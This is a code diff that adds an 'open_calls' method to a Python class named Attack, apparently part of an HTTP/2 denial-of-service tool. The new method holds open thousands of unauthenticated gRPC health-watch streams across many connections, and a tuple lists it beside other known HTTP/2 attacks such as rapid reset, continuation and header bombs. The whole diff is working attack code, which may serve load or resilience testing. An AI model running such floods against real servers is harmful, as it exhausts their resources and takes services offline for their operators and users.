@@ -179,6 +179,23 @@ class Attack:
             return frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * n, request() + big + b"\xbe" * 10000)
         self.repeat(b"", burst, 1)
 
+    def open_calls(self):
+        """Health checks that are watched for ever, which need no token."""
+        def calls(connection):
+            for stream in range(1, 241, 2):
+                connection.send(frame(HEADERS, END_HEADERS, stream, request(b"/grpc.health.v1.Health/Watch")) +
+                                frame(DATA, END_STREAM, stream, bytes(5)))
+        kept = []
+        while self.running() or self.connections + self.refused < 40:  # 4,800 calls: more than the edge passes on
+            connection = self.connect() if len(kept) < 60 else None
+            if connection:
+                calls(connection)
+                self.frames += 240
+                kept.append(connection)
+        for each in kept:
+            each.drain()
+            each.close()
+
     def connection_flood(self):
         """Connections that are opened and kept, silent."""
         kept = []
@@ -198,7 +215,7 @@ class Attack:
 
 
 ATTACKS = ("continuation", "rapid_reset", "pings", "settings", "empty_data", "priorities", "window_updates",
-           "header_bomb", "connection_flood")
+           "header_bomb", "open_calls", "connection_flood")
 
 
 def main(arguments):
